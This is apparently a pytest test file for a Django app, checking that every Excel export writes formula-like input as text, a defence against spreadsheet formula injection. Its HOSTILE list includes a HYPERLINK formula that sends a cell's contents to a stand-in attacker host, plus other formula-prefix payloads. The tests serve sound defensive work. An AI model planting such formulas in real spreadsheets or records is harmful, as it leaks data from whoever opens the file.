"""Spreadsheets carry text, not formulas: every Excel export, through the one helper."""

from __future__ import annotations

import ast
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from stemlink.orders.models import FeeEntry
from stemlink.web.exports import workbook_bytes
from tests.factories import make_customer
from tests.stemlink.web.orders_world import web_order_invoice

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&K2,"Fleur")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]
# Every view that answers a spreadsheet, by URL name: a new export must be added here (and so
# tested), or `test_every_export_view_is_listed` fails.
EXPORT_VIEWS = {"web:customers_export", "web:fees_export"}
SRC = Path(__file__).resolve().parents[3] / "src"


def _cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_helper_writes_formula_like_text_as_a_text_cell(text):
    cells = _cells(workbook_bytes("T", [text, "n", "d", "m"], [[text, 12, Decimal("1.50"), -3]]))
    found = [c for c in cells if c.value in (text, text.replace("\r", "\n"))]  # XML reads \r as \n
    assert len(found) == 2  # the header and the row
    assert all(c.data_type == "s" for c in found)
    numbers = [c for c in cells if c.value in (12, -3)]
    assert [c.data_type for c in numbers] == ["n", "n"]  # numbers stay numbers


def test_control_characters_xml_cannot_hold_do_not_break_an_export():
    cells = _cells(workbook_bytes("T", ["Name"], [["Rosa\x0b\x01 Bella"]]))
    assert cells[1].value == "Rosa Bella"


def _exported_cells(admin_client, name: str) -> list:
    response = admin_client.get(reverse(name))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return _cells(b"".join(response.streaming_content))


@pytest.mark.parametrize("text", HOSTILE[:4])
def test_every_export_view_writes_a_hostile_customer_name_as_text(admin_client, world, text):
    customer = make_customer(world.company, name=text, code="EVIL")
    invoice = web_order_invoice(world, customer=customer)
    assert FeeEntry.objects.filter(invoice=invoice).exists()  # the fees export has its row
    for name in sorted(EXPORT_VIEWS):
        cells = [c for c in _exported_cells(admin_client, name) if c.value == text]
        assert cells, f"{name} did not export the customer's name"
        assert all(c.data_type == "s" for c in cells), name


def _url_names(resolver: URLResolver | None = None, prefix: str = "") -> set[str]:
    names: set[str] = set()
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            space = f"{prefix}{entry.namespace}:" if entry.namespace else prefix
            names |= _url_names(entry, space)
        elif (
            isinstance(entry, URLPattern)
            and entry.name
            and ("xlsx" in str(entry.pattern) or "export" in entry.name)
        ):
            names.add(prefix + entry.name)
    return names


def test_every_export_view_is_listed():
    assert _url_names() == EXPORT_VIEWS


def test_only_the_export_helper_builds_workbooks():
    """No module but `stemlink/web/exports.py` may use openpyxl, so no export can skip the helper."""
    offenders = []
    for path in list((SRC / "stemlink").rglob("*.py")) + list((SRC / "marketplace").rglob("*.py")):
        if path.name == "exports.py" and path.parent.name == "web":
            continue
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            modules = (
                [alias.name for alias in node.names]
                if isinstance(node, ast.Import)
                else [node.module or ""]
                if isinstance(node, ast.ImportFrom)
                else []
            )
            if any(m.split(".")[0] in {"openpyxl", "xlsxwriter", "csv"} for m in modules):
                offenders.append(str(path.relative_to(SRC)))
    assert offenders == []
